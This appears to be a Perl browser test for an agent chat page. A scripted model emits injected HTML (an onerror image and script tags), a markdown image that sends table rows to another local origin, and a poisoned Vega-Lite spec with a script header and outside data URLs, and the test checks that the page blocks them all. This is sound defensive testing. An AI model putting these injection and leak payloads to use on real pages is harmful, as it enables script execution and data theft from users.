#!/usr/bin/perl
# The chat page (conf/html) in a real browser: Debian's Chromium driven by
# npm's playwright-core (t/browser/page.js) against nginx with the module
# and the scripted model.  A CSV is uploaded, a question asked; the answer
# streams with a cursor, the SQL result shows as a table, ask_analyst's
# Vega-Lite chart renders as an SVG with marks, the <img onerror> and
# <script> the model wrote do not run; the reopened session shows it all
# again.  An image attached goes to the model and shows as a thumbnail.
# Then the shipped graphs under their own prefixes: seed 002 (its plan,
# SQL, result table, evaluation and chart as the turn goes) and seed 004
# (the database picker, then ask_database's rows), and a tool call a
# human approves on the page (approve=on).  The screenshot is
# build/screenshot.png.  Skipped only where Chromium cannot be installed.

use strict;
use warnings;
use Test::More;
use FindBin;
use lib "$FindBin::Bin/lib";
use AgentTest;
use JSON::PP;
use IO::Socket::INET;
use POSIX ();
use MIME::Base64 ();

my $root = AgentTest->root;
my $chromium = $ENV{CHROMIUM} // '/usr/bin/chromium';
my $modules = "$root/build/browser/node_modules";

if (!-x $chromium && $> == 0) {
    system('sh', '-c', 'DEBIAN_FRONTEND=noninteractive apt-get install -y '
           . '-qq chromium >/dev/null 2>&1');
}
plan skip_all => "no Chromium at $chromium, and it cannot be installed "
                 . '(apt-get install chromium)'
    unless -x $chromium;

if (!-d "$modules/playwright-core") {
    system('sh', '-c', "npm install --prefix $root/build/browser "
           . 'playwright-core@1.65.1 --no-audit --no-fund --loglevel=error '
           . '>/dev/null 2>&1');
}
plan skip_all => 'playwright-core could not be installed from npm'
    unless -d "$modules/playwright-core";

my $t = AgentTest->new;

# elsewhere: another origin on loopback that counts what reaches it; the
# page must never fetch from it (markdown images, chart data, actions)
my $else = AgentTest::free_port();
my $hits = $t->dir . '/elsewhere.log';
my $else_pid = fork() // die;
if ($else_pid == 0) {
    my $l = IO::Socket::INET->new(LocalAddr => '127.0.0.1',
                                  LocalPort => $else, Listen => 16,
                                  ReuseAddr => 1) or POSIX::_exit(1);
    while (my $c = $l->accept) {
        my $line = <$c> // '';
        open my $fh, '>>', $hits;
        print $fh $line;
        close $fh;
        print $c "HTTP/1.0 200 OK\r\nContent-Type: image/png\r\n\r\n";
        close $c;
    }
    POSIX::_exit(0);
}
END { kill 'KILL', $else_pid if $else_pid }

my $spec = { '$schema' => 'https://vega.github.io/schema/vega-lite/v5.json',
             mark => 'bar',
             data => { values => [ { city => 'Oslo', people => 700000 },
                                   { city => 'Bergen', people => 285000 },
                                   { city => 'Trondheim', people => 212000 } ] },
             encoding => { x => { field => 'city', type => 'nominal' },
                           y => { field => 'people',
                                  type => 'quantitative' } } };
my $dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ'
        . 'DwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
my $answer = "**Oslo** is the largest city, then Bergen and Trondheim.\n\n"
    . "- Oslo: 700000\n- Bergen: 285000\n\n"
    . 'Shown as text: <img src=x onerror="window.__pwned=1">'
    . '<script>window.__pwned=2</script> end.'
    . "\n\n![leak](http://127.0.0.1:$else/leak.png?rows=Oslo,700000) "
    . "![dot](data:image/png;base64,$dot) "
    . "[the source](http://127.0.0.1:$else/link)";

# history written before the module cleaned specs: the page must not
# trust it either (usermeta.embedOptions, a data url to elsewhere)
my $poison = { '$schema' => 'https://vega.github.io/schema/vega-lite/v5.json',
               usermeta => { embedOptions => {
                   actions => JSON::PP::true,
                   sourceHeader => '<script>window.__pwned=3</script>',
                   config => "http://127.0.0.1:$else/config.json" } },
               config => "http://127.0.0.1:$else/config2.json",
               data => { url => "http://127.0.0.1:$else/data.json" },
               mark => { type => 'bar', href => "http://127.0.0.1:$else/h" },
               encoding => { x => { field => 'city', type => 'nominal' },
                             href => { value => "http://127.0.0.1:$else/h2" } } };

my $db = $t->dir . '/shop.db';
system('sqlite3', $db, 'CREATE TABLE sales (region TEXT, total REAL); '
       . "INSERT INTO sales VALUES ('north', 10), ('south', 32);") == 0
    or die 'sqlite3 failed';

$t->mock(sub {
    my ($req) = @_;
    my @m = @{ $req->{messages} };
    my $sys = $m[0]{content};
    return { text => encode_json($spec) }
        if $sys =~ /^You write a Vega-Lite/;

    # seed 002, the shipped data_scientist graph
    return { text => encode_json({ needs_code => \1, needs_evaluation => \1,
                                   needs_chart => \1, needs_explanation => \1,
                                   reasoning => 'people by city' }) }
        if $sys =~ /^PLANNER/;
    return { text => 'SELECT city, people FROM csv_data ORDER BY people DESC' }
        if $sys =~ /^SQL WRITER/;
    return { text => 'Oslo has more than twice the people of Bergen.' }
        if $sys =~ /^EVALUATOR/;
    return { text => '**Oslo** leads.' } if $sys =~ /^EXPLAINER/;

    # a human approves a tool call (approve=on)
    if ($sys =~ /^You are a careful data analyst/
        && AgentTest::last_user($req) eq 'hitl count')
    {
        my ($u) = grep { $m[$_]{role} eq 'user' } reverse 0 .. $#m;
        my ($res) = grep { $_->{role} eq 'tool' } @m[$u .. $#m];
        return { text => 'There are 3 cities.' } if $res;
        return { tools => [ [ 'h1', 'execute_sql_query', encode_json({
                   query => 'SELECT count(*) AS n FROM cities' }) ] ] };
    }

    # seed 004, the shipped sql_assistant graph
    return { text => 'SELECT region, total FROM sales ORDER BY region' }
        if $sys =~ /^You write one SQLite SELECT/;
    if ($sys =~ /^ASSISTANT/) {
        return { text => 'North 10, south 32.' }
            if grep { $_->{role} eq 'tool' } @m;
        return { tools => [ [ 'call_db', 'ask_database',
                              encode_json({ query => 'totals' }) ] ] };
    }

    my ($u) = grep { $m[$_]{role} eq 'user' } reverse 0 .. $#m;
    my @results = grep { $_->{role} eq 'tool' } @m[$u + 1 .. $#m];
    if ($m[$u]{content} eq 'poison') {
        return { text => 'charted' } if @results;
        return { tools => [ [ 'call_p', 'ask_analyst',
                              encode_json({ query => 'a chart' }) ] ] };
    }
    return { tools => [ [ 'call_sql', 'execute_sql_query', encode_json({
               query => 'SELECT city, people FROM csv_data '
                        . 'ORDER BY people DESC' }) ] ] } if !@results;
    return { tools => [ [ 'call_chart', 'ask_analyst',
                          encode_json({ query => 'a bar chart of people '
                                                 . 'by city' }) ] ] }
        if @results == 1;
    return { text => $answer, delay => 0.04,
             pieces => [ $answer =~ /(.{1,12})/gs ] };
});

my $conf = $t->conf(http => <<"HTTP");
agent_prompts $root/prompts;
agent_graph page {
    channel sql_result value;
    node agent llm prompt=react_system.md
        tools=load_csv_data,execute_sql_query,ask_analyst;
    node tools tools;
    edge START agent;
    edge agent tools if=tool_calls;
    edge agent END;
    edge tools agent;
}
agent_use_graph page;
include $root/conf/graphs/data_scientist.conf;
include $root/conf/graphs/sql_assistant.conf;
agent_database shop $db;
agent_graph hitl {
    node model llm prompt=react_system.md tools=execute_sql_query;
    node tools tools approve=on;
    edge START model;
    edge model tools if=tool_calls;
    edge model END;
    edge tools model;
}
HTTP
my $html = "include $root/conf/html/types.conf; "
         . "include $root/conf/html/csp.conf;";
$conf =~ s{(location /api/sessions/)}
          {location / { root $root/conf/html; $html }
        location /ds/ { alias $root/conf/html/; $html }
        location /ds/api/sessions/ { agent_sessions; agent_use_graph data_scientist; }
        location /ds/api/chat/ { agent_chat; agent_use_graph data_scientist; }
        location /hitl/ { alias $root/conf/html/; $html }
        location /hitl/api/sessions/ { agent_sessions; agent_use_graph hitl; }
        location /hitl/api/chat/ { agent_chat; agent_use_graph hitl; }
        location /sa/ { alias $root/conf/html/; $html }
        location /sa/api/sessions/ { agent_sessions; agent_use_graph sql_assistant; }
        location /sa/api/chat/ { agent_chat; agent_use_graph sql_assistant; agent_databases shop; }
        $1};
$t->run($conf);

my $page = $t->http('GET', '/');
like($page->{headers}{'content-security-policy'} // '',
     qr/^default-src 'self'; img-src 'self' data:; connect-src 'self'; object-src 'none'; frame-ancestors 'none'$/,
     'the page is served with the Content-Security-Policy of csp.conf');

# the poisoned session: a real turn, then its stored chart replaced
my $psid = $t->session(title => 'poisoned');
is($t->turn($psid, 'poison')->{types}[-1], 'end', 'a chart in a session');
my $pjson = encode_json({ type => 'vega_lite_spec', spec => $poison });
$pjson =~ s/'/''/g;
$t->sqlite($t->dir . '/agent.db', "UPDATE messages SET content = '$pjson' "
           . "WHERE session_id = '$psid' AND role = 'tool'");

my $csv = $t->dir . '/cities.csv';
open my $fh, '>', $csv or die $!;
print $fh "city,people\nOslo,700000\nBergen,285000\nTrondheim,212000\n";
close $fh;

mkdir "$root/build";
my $shot = "$root/build/screenshot.png";
unlink $shot;
my $png = $t->dir . '/dot.png';
open $fh, '>:raw', $png or die $!;
print $fh MIME::Base64::decode_base64($dot);
close $fh;

my $url = 'http://127.0.0.1:' . $t->port . '/';
my $out = `NODE_PATH=$modules CHROMIUM=$chromium timeout 180 node $root/t/browser/page.js $url $csv $shot $psid $png 2>&1`;
my ($line) = grep { /^\{/ } split /\n/, $out;
my $r = eval { decode_json($line // '') };
ok($r, 'the browser script reported') or diag($out);
$r //= {};

is_deeply($r->{errors}, [], 'no error in the page or the driver')
    or diag(explain $r->{errors});
ok($r->{session}, 'a new session from the page');
like($r->{upload} // '', qr/cities\.csv: table \w+, 3 rows/, 'the CSV uploaded');
ok(length($r->{streamingText} // '') < length($answer),
   'the answer seen while it streamed, with a cursor');
is($r->{cursorAfter}, 0, 'no cursor once it ended');

for my $when (qw(live reopened)) {
    my $f = $r->{$when} // {};
    is($f->{rows}, 3, "$when: the result as a table of three rows");
    is_deeply($f->{cells}, [ 'Oslo', '700000' ], "$when: its first row");
    like($f->{sql} // '', qr/^SELECT city, people FROM csv_data/,
         "$when: the SQL shown");
    ok(($f->{chartMarks} // 0) >= 3, "$when: the chart drawn "
       . "($f->{chartMarks} bar marks)");
    is($f->{strong}, 'Oslo', "$when: markdown rendered");
    like($f->{answer} // '', qr/Shown as text: <img src=x onerror="window.__pwned=1"><script>window.__pwned=2<\/script> end\./,
         "$when: the HTML the model wrote shown as text");
    is($f->{images}, 0, "$when: no image element from the HTML");
    is($f->{remote}, 0, "$when: no image with a source elsewhere");
    is($f->{blocked}, 1, "$when: the markdown image from elsewhere shown "
       . 'without its source');
    is($f->{dataImages}, 1, "$when: a data: image kept");
    is($f->{linkRel}, 'noopener noreferrer', "$when: links without opener "
       . 'or referrer');
    ok($f->{styled}, "$when: the page's stylesheet applied");
    is($f->{pwned}, undef, "$when: the injected onerror and script did not run");
    is($f->{onerror}, 0, "$when: no onerror attribute in the page");
    is($f->{scripts}, 0, "$when: no script element from the model");
}

# the image attached to the first question: sent, and shown
my ($with_image) = grep { grep { ref $_->{content} eq 'ARRAY'
                                 && grep { ($_->{type} // '') eq 'image_url' }
                                         @{ $_->{content} } }
                          @{ $_->{body}{messages} } } $t->{mock}->requests;
ok($with_image, 'image attach: the image went to the model');
is($r->{live}{thumbs}, 1, 'image attach: a thumbnail in the user\'s message');
is($r->{reopened}{thumbPlaceholders}, 1,
   'image attach: reopened, the image named without its data');

# seed 002 in the page: its work shown as the turn goes
my $ds = $r->{ds} // {};
is_deeply($ds->{steps}, [ 'plan: code, evaluation, chart, explanation', 'SQL',
                          'result: 3 rows', 'evaluation' ],
          'seed 002: plan, SQL, result and evaluation shown in order')
    or diag explain $ds;
like($ds->{sql} // '', qr/^SELECT city, people FROM csv_data/,
     'seed 002: the SQL');
is($ds->{resultRows}, 3, 'seed 002: the result as a table');
ok(($ds->{chartMarks} // 0) >= 3, 'seed 002: the chart drawn');
like($ds->{evaluation} // '', qr/twice the people/, 'seed 002: the evaluation');
is($ds->{strong}, 'Oslo', 'seed 002: the explanation rendered');

# seed 004 in the page: the database picker, then the rows
my $sa = $r->{sa} // {};
is_deeply($sa->{databases}, [ '(none)', 'shop' ],
          'seed 004: the picker lists the databases of the location');
like($sa->{connected} // '', qr/^connected shop: 1 table \(sales\)/,
     'seed 004: connected from the picker');
is($sa->{rows}, 2, 'seed 004: ask_database\'s rows as a table');
is($sa->{answer}, 'North 10, south 32.', 'seed 004: the answer');
is($sa->{selected}, 'shop', 'seed 004: reopened, the picker shows it');

# a tool call approved on the page
my $h = $r->{hitl} // {};
like($h->{waiting} // '', qr/waiting for your approval of 1 tool call/,
     'approval: the page says what waits');
like($h->{call} // '', qr/^execute_sql_query \{"query":"SELECT count/,
     'approval: the call shown');
is($h->{rows}, 1, 'approval: approved, the query ran and its row shows');
is($h->{answer}, 'There are 3 cities.', 'approval: the model answered');

my $p = $r->{poisoned} // {};
ok($p->{drawn}, 'poisoned history: the chart is drawn (or refused) '
   . 'without an error of the page');
is($p->{actions}, 0, 'poisoned history: no actions menu, whatever '
   . 'usermeta.embedOptions says');
is($p->{pwned}, undef, 'poisoned history: no sourceHeader script ran');
is($p->{links}, 0, 'poisoned history: no href in the chart');

sleep 0.5;
is(AgentTest::slurp_file($hits), '', 'nothing fetched from elsewhere: no '
   . 'markdown image, chart data, config or link');

ok(-s $shot, "a screenshot in $shot");

$t->stop;
$t->check_log;
done_testing;
